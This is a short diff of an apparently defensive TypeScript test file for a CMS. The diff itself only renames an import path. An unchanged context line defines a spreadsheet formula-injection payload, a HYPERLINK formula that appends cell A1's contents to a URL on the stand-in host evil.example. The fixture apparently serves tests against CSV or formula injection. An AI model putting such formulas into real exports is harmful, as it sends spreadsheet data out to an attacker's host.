@@ -1,5 +1,5 @@
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
-import { sampleStaff } from '../../cms/access/users.ts';
+import { sampleStaff } from '../../cms/access/sample-staff.ts';
 import { admin, adminToken, ask, eventually, signIn } from '../system.ts';
 
 const FORMULA = '=HYPERLINK("https://evil.example?"&A1,"open")';
